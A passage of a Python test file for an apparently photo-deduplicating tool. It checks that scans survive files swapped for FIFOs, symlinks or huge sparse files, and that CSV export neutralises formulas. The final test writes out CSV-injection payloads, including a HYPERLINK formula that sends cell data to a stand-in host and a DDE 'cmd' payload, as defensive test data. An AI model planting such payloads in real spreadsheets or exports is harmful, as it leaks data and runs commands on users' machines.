    def swap_as_the_files_are_found(progress: Progress) -> None:
        if progress.phase is Phase.DISCOVER and not swapped:
            swapped.append(True)
            if swap == "the cache file for a folder":
                for suffix in ("", "-wal", "-shm"):
                    Path(f"{cache_file}{suffix}").unlink(missing_ok=True)
                cache_file.mkdir()
            else:
                shutil.rmtree(cache_file.parent)
                cache_file.parent.write_text("not a folder")

    again = scan([folder], options, progress=swap_as_the_files_are_found)

    assert swapped and started  # the reader was begun before the swap
    assert again.warnings and any("cache" in str(warning).lower() for warning in again.warnings)
    grouped = sorted(sorted(m.path.name for m in g.members) for g in again.groups)
    assert grouped == sorted(sorted(m.path.name for m in g.members) for g in first.groups)
    assert len(grouped) == 3
    assert all(reader._child.wait(timeout=5) is not None for reader in started)


@needs_posix
@pytest.mark.parametrize("becomes", ["a named pipe", "a link to /dev/zero"])
def test_a_new_file_swapped_as_it_is_handed_to_the_reader_begun_early_is_reported_not_waited_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trash: Path, act: Act, becomes: str
) -> None:
    """A rescan hands its reader, begun before the files were found, the new files as soon as
    the cache's load knows them. Hostile: as they are handed over, one new copy becomes a FIFO
    (which a plain open would wait on for ever) or a link to an endless device. The rescan ends in
    seconds, says the file was replaced during the scan, groups the other copies, and acting
    on it never touches the swapped name."""
    import lookalike.core.scan as scan_module
    from lookalike.core import readers
    from lookalike.core.reasons import Code

    monkeypatch.setattr(readers, "READ_APART_FROM", 1)
    monkeypatch.setattr(readers, "WAITED_FOR_ANYWAY", True)
    folder, options = small_pictures_scanned_then_copied(tmp_path, ".png", 8)
    swapped = folder / "small-3 copy.jpg"
    handed: list[int] = []
    start = scan_module._EarlyReader.start

    def swapped_as_handed(self: Any, numbers: list[int], file: Any = None) -> None:
        swapped.unlink()
        if becomes == "a named pipe":
            os.mkfifo(swapped)
        else:
            swapped.symlink_to("/dev/zero")
        start(self, numbers, file)
        handed.append(len(self._sent))

    monkeypatch.setattr(scan_module._EarlyReader, "start", swapped_as_handed)
    give_up = time.monotonic() + 30

    result = scan_module.scan([folder], options, cancelled=lambda: time.monotonic() > give_up)

    assert not result.cancelled and handed == [8]  # every new copy was handed to the reader early
    assert [e.error.code for e in result.errors if e.path == swapped] == [Code.REPLACED_DURING_SCAN]
    grouped = sorted(sorted(m.path.name for m in g.members) for g in result.groups)
    assert grouped == [[f"small-{seed} copy.jpg", f"small-{seed}.png"] for seed in range(8) if seed != 3]
    act(result, mark(result, {folder / f"small-{seed}.png" for seed in range(8)}))
    assert trashed(trash) == sorted(f"small-{seed} copy.jpg" for seed in range(8) if seed != 3)
    assert swapped.is_symlink() or swapped.is_fifo()


@needs_posix
def test_a_picture_swapped_for_a_huge_file_after_it_was_found_is_never_held_in_memory(
    tmp_path: Path, trash: Path, act: Act
) -> None:
    """Hostile: between finding the files and reading them, a small picture is overwritten where it
    is (the same file, so read as the file found) by a gigabyte of something else (sparse: it takes
    no room). It is read a piece at a time, as any file that large, and said to be no picture; the
    other copies are grouped, and acting trashes one of them and never touches the swapped name."""
    import tracemalloc

    from lookalike.core.models import Phase, Progress
    from lookalike.core.reasons import Code
    from lookalike.core.scan import scan

    folder = tmp_path / "photos"
    keep, copy, swapped = make_copies(folder, names=("a.jpg", "b.jpg", "c.jpg"))
    grown: list[bool] = []

    def swap_once_found(progress: Progress) -> None:
        if progress.phase is Phase.FINGERPRINT and not grown:
            grown.append(True)
            with open(swapped, "r+b") as huge:
                huge.write(b"no picture at all")
                huge.truncate(1 << 30)

    tracemalloc.start()
    try:
        result = scan(
            [folder], ScanOptions(cache_dir=tmp_path / "cache", workers=1), progress=swap_once_found
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert grown and peak < 200 * 1024 * 1024, f"{peak / 2**20:.0f} MB held at once"
    assert [e.error.code for e in result.errors if e.path == swapped] == [Code.NOT_A_PICTURE]
    assert [sorted(m.path.name for m in g.members) for g in result.groups] == [["a.jpg", "b.jpg"]]
    act(result, mark(result, {keep}))
    assert trashed(trash) == ["b.jpg"] and not copy.exists() and keep.exists()
    assert swapped.stat().st_size == 1 << 30


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the helper listing folders is Linux's")
@pytest.mark.parametrize(
    ("becomes", "read"),
    [
        ("a named pipe", "here"),
        ("a link to a picture outside", "here"),
        ("a link to a picture outside", "by a reader"),
        ("another picture moved over it", "here"),
    ],
)
def test_a_file_the_helper_stated_then_swapped_before_it_is_read_is_reported_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trash: Path, act: Act, becomes: str, read: str
) -> None:
    """Discovery takes the files of a folder the helper listing folders answered for as the helper
    stat-ed them. Hostile: right after the helper answered, one picture there becomes a FIFO (which
    a plain open waits on for ever), a link to a picture outside the roots, or another picture moved
    over its name. The scan does not wait, nor read what the name now leads to as the file it
    found: it says the file was replaced during the scan and groups the rest; acting with every
    original kept trashes the other copies and never touches the swapped name."""
    from lookalike.core import listing, readers
    from lookalike.core.listing import Lister
    from lookalike.core.reasons import Code
    from lookalike.core.scan import scan

    monkeypatch.setattr(listing, "HELPER_FROM", 0)
    monkeypatch.setattr(listing, "WAITED_FOR", True)  # its answers taken for every folder but the first
    monkeypatch.setattr(listing, "KEPT_EVERY", 1_000)
    if read == "by a reader":
        monkeypatch.setattr(readers, "READ_APART_FROM", 1)
        monkeypatch.setattr(readers, "WAITED_FOR_ANYWAY", True)
    root, outside = tmp_path / "photos", tmp_path / "outside"
    for number in range(3):
        make_copies(root / f"trip-{number}", number, names=("original.jpg", "copy.jpg"))
    make_copies(root / "trip-0", 9, names=("nine.jpg",))  # what the swapped name leads to, in the roots
    make_copies(outside, 9, names=("nine.jpg",))
    make_copies(tmp_path, 9, names=("nine.jpg",))
    swapped = root / "trip-2" / "copy.jpg"  # a folder the helper answered for
    answered: list[str] = []
    real_listed = Lister.listed

    def swapped_once_answered(self: Lister, folder: str) -> listing.Listed | None:
        answer = real_listed(self, folder)
        if answer is not None:
            answered.append(os.path.basename(folder))
            if folder == str(swapped.parent):
                if becomes == "another picture moved over it":
                    os.replace(tmp_path / "nine.jpg", swapped)
                elif becomes == "a named pipe":
                    swapped.unlink()
                    os.mkfifo(swapped)
                else:
                    swapped.unlink()
                    swapped.symlink_to(outside / "nine.jpg")
        return answer

    monkeypatch.setattr(Lister, "listed", swapped_once_answered)
    give_up = time.monotonic() + 30

    result = scan([root], ScanOptions(workers=2), cancelled=lambda: time.monotonic() > give_up)

    assert not result.cancelled and "trip-2" in answered
    said = Code.REPLACED_DURING_SCAN if becomes == "a named pipe" else Code.ANOTHER_FILE_DURING_SCAN
    assert [e.error.code for e in result.errors] == [said]
    assert [e.path for e in result.errors] == [swapped]
    grouped = sorted(sorted(m.path.relative_to(root).as_posix() for m in g.members) for g in result.groups)
    assert grouped == [["trip-0/copy.jpg", "trip-0/original.jpg"], ["trip-1/copy.jpg", "trip-1/original.jpg"]]
    act(result, mark(result, {root / f"trip-{number}" / "original.jpg" for number in range(3)}))
    assert len(trashed(trash)) == 2 and all(name.startswith("copy") for name in trashed(trash))
    assert not (root / "trip-0" / "copy.jpg").exists() and not (root / "trip-1" / "copy.jpg").exists()
    assert all((root / f"trip-{number}" / "original.jpg").exists() for number in range(3))
    assert (root / "trip-0" / "nine.jpg").exists() and (outside / "nine.jpg").exists()
    if becomes == "a named pipe":
        assert swapped.is_fifo()
    elif becomes == "a link to a picture outside":
        assert swapped.readlink() == outside / "nine.jpg"
    else:
        assert swapped.read_bytes() == (outside / "nine.jpg").read_bytes()


@needs_posix
def test_a_large_picture_whose_name_becomes_a_fifo_as_its_digest_is_taken_is_decoded_from_the_file_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trash: Path, act: Act
) -> None:
    """A file over 256 MB is read a piece at a time for its digest, then decoded. Hostile: as its
    digest is taken, a FIFO takes its name. The picture is decoded from the file whose digest was
    taken, not opened again by name (which would wait on the FIFO for ever, and the scan with it):
    it is grouped with its small copy. Acting with the large one kept trashes nothing (the kept
    copy is no longer there); with the small one kept, the FIFO is not touched."""
    from lookalike.core import fingerprint
    from lookalike.core.scan import scan

    folder = tmp_path / "photos"
    folder.mkdir()
    large, small = folder / "large.png", folder / "small.png"
    photo(5, (96, 72)).save(small)
    with open(large, "wb") as padded:  # the picture, then sparse zeros after its end (PNG ignores them)
        padded.write(small.read_bytes())
        padded.truncate(fingerprint.LARGE_FILE + 4096)
    taken = fingerprint.digest_stream
    swapped: list[bool] = []

    def swapped_as_taken(stream: Any) -> str:
        if not swapped and os.fstat(stream.fileno()).st_size > fingerprint.LARGE_FILE:
            swapped.append(True)
            os.mkfifo(folder / "pipe")
            os.replace(folder / "pipe", large)
        return taken(stream)

    monkeypatch.setattr(fingerprint, "digest_stream", swapped_as_taken)
    outcome: list[Any] = []
    ends_without_waiting_on(
        large,
        lambda: outcome.append(scan([folder], ScanOptions(cache_dir=tmp_path / "cache", workers=1))),
        60,
        "the scan waits on a FIFO that took a large picture's name",
    )
    (result,) = outcome
    assert swapped and not result.errors
    assert [sorted(m.path.name for m in g.members) for g in result.groups] == [["large.png", "small.png"]]
    act(result, mark(result, {large}))
    act(result, mark(result, {small}))
    assert trashed(trash) == [] and large.is_fifo() and small.exists()


@needs_posix
def test_a_cache_folder_that_takes_no_writes_even_from_root_gives_one_warning_and_the_scan_goes_on(
    tmp_path: Path, immutable: Callable[[Path], None]
) -> None:
    """Hostile: after a first scan, the cache's folder and its files take no writes at all (a
    read-only drive; here made immutable, which binds root too, where permissions do not). A
    rescan after a picture was added warns once that the cache cannot be used, and finds the
    same groups with the new copy; the cache's files are as they were."""
    folder = tmp_path / "photos"
    keep, _ = make_copies(folder)
    scan_folder(folder)
    cache = tmp_path / "cache"
    before = {path.name: path.read_bytes() for path in cache.iterdir() if path.is_file()}
    for path in [*cache.iterdir(), cache]:
        immutable(path)
    shutil.copyfile(keep, folder / "c.jpg")

    result = scan_folder(folder)

    assert [sorted(m.path.name for m in g.members) for g in result.groups] == [["a.jpg", "b.jpg", "c.jpg"]]
    assert len(result.warnings) == 1 and "cannot be used" in str(result.warnings[0]), result.warnings
    assert {path.name: path.read_bytes() for path in cache.iterdir() if path.is_file()} == before


def test_a_crafted_result_s_words_exported_to_csv_never_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
    """Hostile: a saved result edited so that its words begin with "=", "+", "-" or "@" (a keep
    reason "=HYPERLINK(…)", a format "@SUM(…)"): exported to CSV, such a cell is a formula that a
    spreadsheet runs on opening (CSV injection). Every such cell reads as text there, its words
    kept after the quote mark that says so; the file's paths and numbers are as they were."""
    keep, copy = make_copies(tmp_path / "photos")
    data = json.loads(report.to_json(scan_folder(tmp_path / "photos")))
    (group,) = data["groups"]
    group["keep_reason"] = '=HYPERLINK("http://example.invalid/?q="&A1,"Click")'
    group["files"][1]["format"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    group["files"][0]["format"] = "+1+1"
    loaded = report.load(json.dumps(data))

    rows = list(csv.DictReader(io.StringIO(report.to_csv(loaded), newline="")))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {row["keep_reason"] for row in rows} >= {"'" + group["keep_reason"]}
    assert sorted(row["format"] for row in rows) == sorted(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1"])
    assert sorted(row["path"] for row in rows) == sorted([str(keep), str(copy)])
